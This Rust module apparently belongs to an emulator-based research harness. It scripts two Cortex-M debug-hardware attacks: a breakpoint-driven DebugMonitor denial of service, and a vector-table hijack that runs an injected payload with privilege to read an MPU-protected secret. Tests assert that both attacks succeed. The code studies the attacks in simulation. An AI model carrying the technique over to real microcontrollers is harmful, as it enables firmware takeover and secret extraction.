//! Breakpoint-driven attacks that need no remap support: a denial of service
//! through the DebugMonitor exception and a vector-table hijack that turns
//! the same exception into privileged code execution.

use fpb_emu::asm::{Assembler, Program};
use fpb_emu::isa::Reg;
use fpb_emu::machine::{DebugOutcome, Mode, StepEvent, Stop, StopReason, EXC_DEBUGMONITOR, EXC_HARDFAULT};
use fpb_emu::mpu::Privilege;
use fpb_emu::scb::{DEMCR, DEMCR_MON_EN};
use fpb_emu::{Machine, ResetKind};

use super::default_config;
use crate::attacker::Attacker;
use crate::context::{ScenarioContext, ScenarioError, Session};
use crate::firmware::{self, load_and_boot, outputs, Region, AP_FULL, AP_PRIV_RW, FLASH, MPU_ON, OUT, SRAM, STACK_TOP};
use crate::report::{Expect, ScenarioReport, Value};
use crate::{drive, ScenarioOutcome};

pub const DOS_NAME: &str = "bkpt_dos";
pub const HIJACK_NAME: &str = "vtor_hijack";
const HEARTBEAT: u32 = SRAM + 0x100;
/// Steps the DebugMonitor loop must hold the core for.
pub const SPIN_STEPS: u64 = 200;
const SECRET_BASE: u32 = SRAM + 0x1_0000;
const SECRET_VALUE: u32 = 0x5EC2_E7A1;
const SRAM_VECTORS: u32 = SRAM + 0x1000;
pub const DEFAULT_PAYLOAD: u32 = SRAM + 0x2000;
const PAYLOAD_OUT: u32 = 0x10;
const BUDGET: u64 = 5_000;

/// Thread code calls `victim` forever; `victim` bumps and prints a heartbeat.
/// DebugMonitor is a spin loop and HardFault an abort routine.
fn build(protected: bool) -> Result<Program, ScenarioError> {
    let mut a = Assembler::new(FLASH);
    firmware::vector_table(&mut a, STACK_TOP, &[(EXC_HARDFAULT, "hardfault"), (EXC_DEBUGMONITOR, "debugmon")]);
    firmware::unhandled(&mut a);
    a.label("hardfault");
    a.bkpt(0);
    a.b_self();
    a.label("debugmon");
    a.b_self();
    a.label("reset");
    if protected {
        let mut regions = firmware::standard_regions();
        regions[1].xn = false;
        regions.push(Region { index: 3, base: SECRET_BASE, size_log2: 10, ap: AP_PRIV_RW, xn: true });
        debug_assert_eq!(regions[1].ap, AP_FULL);
        firmware::emit_mpu_setup(&mut a, &regions, MPU_ON);
        firmware::emit_drop_privilege(&mut a);
    }
    a.label("main_loop");
    a.bl("victim");
    a.b("main_loop");
    a.pool();
    a.align(4);
    a.label("victim");
    a.ldr_const(Reg::R0, HEARTBEAT);
    a.ldr(Reg::R1, Reg::R0, 0);
    a.adds8(Reg::R1, 1);
    a.str(Reg::R1, Reg::R0, 0);
    a.ldr_const(Reg::R2, OUT);
    a.str(Reg::R1, Reg::R2, 0);
    a.bx(Reg::LR);
    a.pool();
    firmware::finish(a)
}

fn dos_config(ctx: &ScenarioContext) -> Result<fpb_emu::MachineConfig, ScenarioError> {
    let mut config = default_config(ctx)?;
    config.fpb.has_remap = false;
    Ok(config)
}

fn heartbeat(m: &Machine) -> u64 {
    u64::from(m.peek_word(HEARTBEAT).unwrap_or(0))
}

/// Whether every step of `events` executed the instruction at `pc`.
fn spinning_at(events: &[StepEvent], pc: u32) -> bool {
    !events.is_empty() && events.iter().all(|e| matches!(e, StepEvent::Executed { pc: p, .. } if *p == pc))
}

/// Runs into the DebugMonitor loop and checks it holds for [`SPIN_STEPS`].
fn spins(session: &mut Session, m: &mut Machine, run: &str, spin_pc: u32) -> (bool, u64, u64) {
    session.run_for(m, run, &[Stop::ExceptionEntered(EXC_DEBUGMONITOR)], BUDGET);
    let entered = m.active_exceptions().contains(&EXC_DEBUGMONITOR);
    let before = heartbeat(m);
    let held = session.run_steps(m, run, SPIN_STEPS);
    (entered && spinning_at(&held.events, spin_pc), before, heartbeat(m))
}

pub fn bkpt_dos(ctx: &ScenarioContext, victim: Option<u32>) -> ScenarioOutcome {
    drive(DOS_NAME, ctx, |session, report: &mut ScenarioReport| {
        let program = build(false)?;
        let victim = victim.unwrap_or_else(|| program.addr("victim"));
        let spin = program.addr("debugmon");
        report.record("victim", Value::Word(victim));

        let mut m = session.machine(dos_config(ctx)?)?;
        load_and_boot(&mut m, &[&program])?;
        session.run_steps(&mut m, "control", SPIN_STEPS);
        report.expect("control.heartbeat", Value::Count(heartbeat(&m)), Expect::AtLeast(10));
        let control_dm = m.exceptions_taken(EXC_DEBUGMONITOR) > 0;
        report.expect_eq("control.debugmonitor_entered", Value::Flag(control_dm), Value::Flag(false));

        let mut m = session.machine(dos_config(ctx)?)?;
        load_and_boot(&mut m, &[&program])?;
        session.run_steps(&mut m, "mon_en", 50);
        let mut atk = Attacker::new(&mut m);
        atk.set_demcr_bits(DEMCR_MON_EN)?;
        atk.breakpoint(0, victim)?;
        atk.enable_fpb()?;
        let (spun, before, after) = spins(session, &mut m, "mon_en", spin);
        report.expect_eq("mon_en.debugmonitor_spin", Value::Flag(spun), Value::Flag(true));
        report.expect_eq("mon_en.heartbeat_frozen", Value::Flag(before == after), Value::Flag(true));
        report.expect_differs("mon_en.debugmonitor_spin", "control.debugmonitor_entered");

        m.reset(ResetKind::SystemReset);
        let fpb_kept = m.bus.fpb.is_enabled();
        let demcr = Attacker::new(&mut m).read(DEMCR)?;
        report.expect_eq("after_reset.fpb_enabled", Value::Flag(fpb_kept), Value::Flag(true));
        report.expect_eq("after_reset.mon_en", Value::Flag(demcr & DEMCR_MON_EN != 0), Value::Flag(true));
        let (spun, _, _) = spins(session, &mut m, "after_reset", spin);
        report.expect_eq("after_reset.debugmonitor_spin", Value::Flag(spun), Value::Flag(true));

        let mut m = session.machine(dos_config(ctx)?)?;
        load_and_boot(&mut m, &[&program])?;
        let mut atk = Attacker::new(&mut m);
        atk.breakpoint(0, victim)?;
        atk.enable_fpb()?;
        let result = session.run_for(&mut m, "mon_dis", &[], BUDGET);
        let escalated = result
            .events
            .iter()
            .any(|e| matches!(e, StepEvent::DebugEvent { outcome: DebugOutcome::EscalatedToHardFault, .. }));
        report.expect_eq("mon_dis.escalated_to_hardfault", Value::Flag(escalated), Value::Flag(true));
        report.expect_eq("mon_dis.locked_up", Value::Flag(result.stop == StopReason::Locked), Value::Flag(true));
        Ok(())
    })
}

pub fn run_dos(ctx: &ScenarioContext) -> ScenarioOutcome {
    bkpt_dos(ctx, None)
}

/// Reads the privileged secret and prints it, then spins.
fn payload(at: u32) -> Result<Program, ScenarioError> {
    let mut a = Assembler::new(at);
    a.ldr_const(Reg::R0, SECRET_BASE);
    a.ldr(Reg::R0, Reg::R0, 0);
    a.ldr_const(Reg::R1, OUT + PAYLOAD_OUT);
    a.str(Reg::R0, Reg::R1, 0);
    a.label("payload_spin");
    a.b_self();
    a.pool();
    firmware::finish(a)
}

fn hijack_machine(session: &Session, ctx: &ScenarioContext, program: &Program) -> Result<Machine, ScenarioError> {
    let mut m = session.machine(default_config(ctx)?)?;
    m.load_bytes(SECRET_BASE, &SECRET_VALUE.to_le_bytes())?;
    load_and_boot(&mut m, &[program])?;
    Ok(m)
}

pub fn vtor_hijack(ctx: &ScenarioContext, victim: Option<u32>, payload_addr: Option<u32>) -> ScenarioOutcome {
    drive(HIJACK_NAME, ctx, |session, report: &mut ScenarioReport| {
        let program = build(true)?;
        let victim = victim.unwrap_or_else(|| program.addr("victim"));
        let payload = payload(payload_addr.unwrap_or(DEFAULT_PAYLOAD))?;

        let mut m = hijack_machine(session, ctx, &program)?;
        session.run_steps(&mut m, "control", SPIN_STEPS);
        let direct = Attacker::new(&mut m).read(SECRET_BASE)?;
        report.record("control.direct_privileged_read", Value::Word(direct));
        let denied = m.read_word(SECRET_BASE, Privilege::Unprivileged).ok().is_none();
        report.expect_eq("control.unprivileged_read_denied", Value::Flag(denied), Value::Flag(true));
        let control_leak = outputs(&m, PAYLOAD_OUT).first().map_or(Value::Text("none".into()), |&v| Value::Word(v));
        report.record("control.payload_output", control_leak);

        let mut m = hijack_machine(session, ctx, &program)?;
        session.run_steps(&mut m, "attack", 50);
        let mut atk = Attacker::new(&mut m);
        atk.write_bytes(payload.origin, &payload.bytes)?;
        let vtor = atk.read(fpb_emu::scb::VTOR)?;
        for n in 0..16 {
            let entry = if n == EXC_DEBUGMONITOR { payload.origin | 1 } else { atk.read(vtor + 4 * n)? };
            atk.write(SRAM_VECTORS + 4 * n, entry)?;
        }
        if atk.set_vtor(SRAM_VECTORS)? != SRAM_VECTORS {
            return Err(ScenarioError::Unsupported("VTOR is not relocatable on this core".into()));
        }
        let requested = SRAM_VECTORS + 0x40;
        let flagged = atk.set_vtor(requested)? != requested;
        report.expect_eq("misaligned_vtor_flagged", Value::Flag(flagged), Value::Flag(true));
        atk.set_vtor(SRAM_VECTORS)?;
        atk.set_demcr_bits(DEMCR_MON_EN)?;
        atk.breakpoint(0, victim)?;
        atk.enable_fpb()?;

        let spin = payload.addr("payload_spin");
        session.run_for(&mut m, "attack", &[Stop::PcEquals(spin)], BUDGET);
        let reached = m.pc() == spin;
        report.expect_eq("attack.payload_ran", Value::Flag(reached), Value::Flag(true));
        report.expect_eq("attack.mode", Value::Text(format!("{:?}", m.mode())), Value::Text(format!("{:?}", Mode::Handler)));
        report.expect_eq("attack.privileged", Value::Flag(m.privilege().is_privileged()), Value::Flag(true));
        let leaked = outputs(&m, PAYLOAD_OUT).first().map_or(Value::Text("none".into()), |&v| Value::Word(v));
        report.expect_eq("attack.payload_output", leaked, Value::Word(direct));
        report.expect_differs("attack.payload_output", "control.payload_output");
        Ok(())
    })
}

pub fn run_vtor_hijack(ctx: &ScenarioContext) -> ScenarioOutcome {
    vtor_hijack(ctx, None, None)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::context::MachineOverrides;

    #[test]
    fn dos_spins_locks_and_persists() {
        let out = run_dos(&ScenarioContext::default());
        assert!(out.report.passed, "{:#?}", out.report);
    }

    #[test]
    fn hijack_runs_payload_privileged() {
        let out = run_vtor_hijack(&ScenarioContext::default());
        assert!(out.report.passed, "{:#?}", out.report);
        assert_eq!(out.report.get("attack.payload_output"), Some(&Value::Word(SECRET_VALUE)));
    }

    #[test]
    fn hijack_needs_relocatable_vtor() {
        let ctx = ScenarioContext {
            overrides: MachineOverrides { vtor_relocatable: Some(false), ..Default::default() },
            ..Default::default()
        };
        let out = run_vtor_hijack(&ctx);
        assert!(!out.report.passed);
        assert_eq!(out.report.get("error"), Some(&Value::Text("Unsupported".into())));
    }
}
